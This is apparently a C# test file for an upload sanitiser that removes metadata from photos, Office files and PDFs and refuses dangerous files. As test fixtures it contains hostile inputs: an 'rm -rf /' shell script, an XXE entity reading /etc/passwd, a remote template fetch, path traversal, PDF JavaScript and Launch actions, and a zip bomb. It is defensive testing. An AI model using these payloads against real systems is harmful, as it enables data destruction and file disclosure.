using System.Text;
using Rtop.Partners.Assessments;
using Rtop.Partners.Portal.Files;
using Rtop.Partners.Portal.Tests.Support;
using Xunit;

namespace Rtop.Partners.Portal.Tests.Files;

/// <summary>What somebody uploads is told by its content, cleaned of who and where, or refused with the reason.</summary>
public sealed class FileCleanerTests
{
    const string Author = "Nomvula Dlamini-Kovač";

    [Theory]
    [InlineData("report.pdf")]
    [InlineData("photo.png")]
    [InlineData("photo.jpg")]
    [InlineData("minutes.docx")]
    [InlineData("notes.txt")]
    public void A_program_is_refused_whatever_its_name_says(string name) => Refused("file.program", SomeFile.Program(), name);

    [Theory]
    [InlineData("#!/bin/sh\nrm -rf /\n", "notes.txt", "file.program")]
    [InlineData("<!doctype html><script>alert(1)</script>", "notes.txt", "file.markup")]
    [InlineData("\uFEFF \n<svg xmlns='http://www.w3.org/2000/svg'/>", "drawing.txt", "file.markup")]
    [InlineData("<?xml version='1.0'?><a/>", "list.csv", "file.markup")]
    [InlineData("alert(1)", "notes.js", "file.text-name")]
    [InlineData("@echo off", "notes.bat", "file.text-name")]
    [InlineData("words", "photo.png", "file.text-name")]
    [InlineData("", "notes.txt", "file.empty")]
    public void What_a_browser_or_a_machine_would_run_is_refused(string text, string name, string key) => Refused(key, Encoding.UTF8.GetBytes(text), name);

    [Fact]
    public void Other_contents_than_those_taken_are_refused()
    {
        Refused("file.kind-unknown", [.. "GIF89a"u8, 0, 1, 2, 3], "photo.png");
        Refused("file.kind-unknown", [.. "plain, and then "u8, .. new byte[2000]], "notes.txt");
        Refused("file.kind-unknown", [.. Enumerable.Repeat((byte)'a', 5000), 0, 1], "notes.txt");
        Refused("file.not-utf8", [.. "caf"u8, 0xE9, .. " and more"u8], "notes.txt");
        Refused("file.old-office", [0xD0, 0xCF, 0x11, 0xE0, .. new byte[600]], "minutes.docx");
        Refused("file.name-and-content", SomeFile.Png(), "photo.jpg");
        Refused("file.name-and-content", SomeFile.Docx(Author), "minutes.xlsx");
        Refused("file.kind-unknown", Zipped(), "minutes.docx");
    }

    [Fact]
    public void Text_is_kept_to_the_byte()
    {
        var text = Encoding.UTF8.GetBytes("hour,reachable\r\n0,1\r\nأدلة,é\n");
        var (kind, removed, bytes) = Cleaned(text, "values.csv");
        Assert.Equal((FileKind.Csv, Cleanings.None), (kind, removed));
        Assert.Equal(text, bytes);
    }

    [Fact]
    public void A_photograph_loses_place_time_and_camera_and_stays_the_right_way_up()
    {
        var plain = SomeFile.Jpeg();
        var photo = SomeFile.Jpeg((0xE1, SomeFile.Exif(6, "Camera of the team")), (0xE1, [.. "http://ns.adobe.com/xap/1.0/\0<x>Vasse</x>"u8]), (0xED, [.. "Photoshop 3.0\0by-line"u8]), (0xFE, [.. "a comment"u8]));
        var (kind, removed, bytes) = Cleaned([.. photo, .. "PK hidden behind the end"u8], "photo.JPG");

        Assert.Equal((FileKind.Jpeg, Cleanings.PictureDetails | Cleanings.PictureTexts | Cleanings.Trailing), (kind, removed));
        foreach (var told in (string[])["Camera", "Vasse", "by-line", "comment", "hidden"]) Assert.DoesNotContain(told, Encoding.Latin1.GetString(bytes), StringComparison.Ordinal);
        // What is left is the plain picture, and an EXIF of one field: orientation 6.
        var upright = bytes.AsSpan().IndexOf("Exif\0\0"u8);
        Assert.Equal(6, bytes[upright + 25]);
        var length = (bytes[upright - 2] << 8) | bytes[upright - 1];
        Assert.Equal(plain, (byte[])[.. bytes[..(upright - 4)], .. bytes[(upright - 2 + length)..]]);
        var (_, nothing, same) = Cleaned(plain, "photo.jpg");
        Assert.Equal(Cleanings.None, nothing);
        Assert.Equal(plain, same);
    }

    [Fact]
    public void A_picture_in_png_loses_its_words_and_times()
    {
        var plain = SomeFile.Png();
        var told = SomeFile.Png(("tEXt", [.. "Author\0Nomvula"u8]), ("iTXt", [.. "XML:com.adobe.xmp\0\0\0\0\0Vasse"u8]), ("eXIf", [.. "MM\0*"u8]), ("tIME", [7, 0xEA, 1, 2, 3, 4, 5]));
        var (kind, removed, bytes) = Cleaned([.. told, .. "behind"u8], "photo.png");
        Assert.Equal((FileKind.Png, Cleanings.PictureDetails | Cleanings.PictureTexts | Cleanings.Trailing), (kind, removed));
        Assert.Equal(plain, bytes);
        Refused("file.damaged", plain[..^9], "photo.png");
    }

    [Fact]
    public void A_word_document_keeps_its_words_and_loses_who_wrote_them()
    {
        var photo = Encoding.Latin1.GetString(SomeFile.Jpeg((0xE1, SomeFile.Exif(1, "Camera of the team"))));
        var (kind, removed, bytes) = Cleaned(SomeFile.Docx(Author, ("word/media/image1.jpeg", photo)), "minutes.docx");

        Assert.Equal((FileKind.Docx, Cleanings.DocumentProperties | Cleanings.AuthorNames | Cleanings.PicturesWithin), (kind, removed));
        var all = SomeFile.Unpacked(bytes);
        foreach (var name in (string[])["Nomvula", "Kova", "Somebody Else", "example.org", "XY", "Camera", "thumbnail"]) Assert.DoesNotContain(name, all, StringComparison.Ordinal);
        var document = SomeFile.Part(bytes, "word/document.xml")!;
        Assert.Contains("""<w:t xml:space="preserve"> The agreed words. </w:t>""", document, StringComparison.Ordinal);
        Assert.Contains("""<w:ins w:id="1" w:author="A1" w:date="2026-01-02T03:04:05Z">""", document, StringComparison.Ordinal);
        // Whose remark it is can still be followed: the same person, the same letter.
        Assert.Contains("""w:author="A2">""", document, StringComparison.Ordinal);
        Assert.Contains("""w:author="A1" w:initials="A3">""", SomeFile.Part(bytes, "word/comments.xml")!, StringComparison.Ordinal);
    }

    [Fact]
    public void A_spreadsheet_loses_names_and_folders_and_keeps_its_tables()
    {
        var (kind, removed, bytes) = Cleaned(SomeFile.Xlsx(Author), "values.xlsx");
        Assert.Equal((FileKind.Xlsx, Cleanings.AuthorNames | Cleanings.DocumentProperties), (kind, removed));
        Assert.DoesNotContain("Nomvula", SomeFile.Unpacked(bytes), StringComparison.Ordinal);
        Assert.Contains("displayName=\"Table1\"", SomeFile.Part(bytes, "xl/tables/table1.xml")!, StringComparison.Ordinal);
    }

    [Fact]
    public void A_bomb_is_not_unpacked()
    {
        var bomb = SomeFile.Bomb();
        Assert.True(bomb.Length < 1024 * 1024, "the bomb is no bomb");
        var before = GC.GetAllocatedBytesForCurrentThread();
        Refused("file.bomb", bomb, "minutes.docx");
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 20_000_000, "much was unpacked into memory");
        Refused("file.bomb", SomeFile.Docx(Author, [.. Enumerable.Range(0, 2100).Select(part => ($"word/part{part}.xml", "<a/>"))]), "minutes.docx");
    }

    [Theory]
    [InlineData("word/vbaProject.bin", "macro", "file.macros")]
    [InlineData("word/embeddings/oleObject1.bin", "MZ", "file.carries-other")]
    [InlineData("word/activeX/activeX1.xml", "<a/>", "file.carries-other")]
    [InlineData("word/_rels/settings.xml.rels", """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>""", "file.fetches")]
    [InlineData("word/../../evil.xml", "<a/>", "file.damaged")]
    [InlineData("word/header1.xml", """<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>""", "file.damaged")]
    [InlineData("word/header1.xml", "<a>", "file.damaged")]
    [InlineData("word/media/image1.png", "MZ no picture", "file.damaged")]
    public void A_document_that_carries_runs_or_fetches_something_is_refused(string part, string text, string key) => Refused(key, SomeFile.Docx(Author, (part, text)), "minutes.docx");

    [Theory]
    [InlineData("3 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj", "file.pdf-script")]
    [InlineData("3 0 obj <</S /Java#53cript>> endobj", "file.pdf-script")]
    [InlineData("3 0 obj <</S/Launch/F(cmd.exe)>> endobj", "file.pdf-script")]
    [InlineData("3 0 obj <</Type /EmbeddedFile>> endobj", "file.pdf-attachment")]
    [InlineData("3 0 obj <</Encrypt 4 0 R>> endobj", "file.pdf-locked")]
    public void A_pdf_that_acts_carries_files_or_is_locked_is_refused_also_in_its_compressed_parts(string content, string key)
    {
        Refused(key, SomeFile.Pdf(content), "report.pdf");
        Refused(key, SomeFile.Pdf(content, compressed: true), "report.pdf");
    }

    [Fact]
    public void An_honest_pdf_is_kept_as_it_is_and_that_is_said()
    {
        var pdf = SomeFile.Pdf("3 0 obj <</Type /Page>> endobj", compressed: true);
        var (kind, removed, bytes) = Cleaned(pdf, "report.pdf");
        Assert.Equal((FileKind.Pdf, Cleanings.PdfDetailsLeft), (kind, removed));
        Assert.Equal(pdf, bytes);
        Refused("file.damaged", SomeFile.Pdf("/Type /ObjStm /Filter /ASCIIHexDecode"), "report.pdf");
    }

    [Fact]
    public void More_than_the_largest_file_is_refused_before_it_is_looked_at() =>
        Assert.Equal("file.too-large", Assert.Throws<RuleBroken>(() => FileCleaner.Clean(new HugeStream(EvidenceFile.MaxLength + 1), "notes.txt")).Key);

    static void Refused(string key, byte[] bytes, string name)
    {
        var broken = Assert.Throws<RuleBroken>(() => FileCleaner.Clean(new MemoryStream(bytes), name).Dispose());
        Assert.Equal((key, "File"), (broken.Key, broken.Field));
    }

    static (FileKind Kind, Cleanings Removed, byte[] Bytes) Cleaned(byte[] bytes, string name)
    {
        using var clean = FileCleaner.Clean(new MemoryStream(bytes), name);
        using var kept = new MemoryStream();
        clean.Bytes.CopyTo(kept);
        return (clean.Kind, clean.Removed, kept.ToArray());
    }

    static byte[] Zipped()
    {
        using var stream = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true)) zip.CreateEntry("run.exe");
        return stream.ToArray();
    }
}
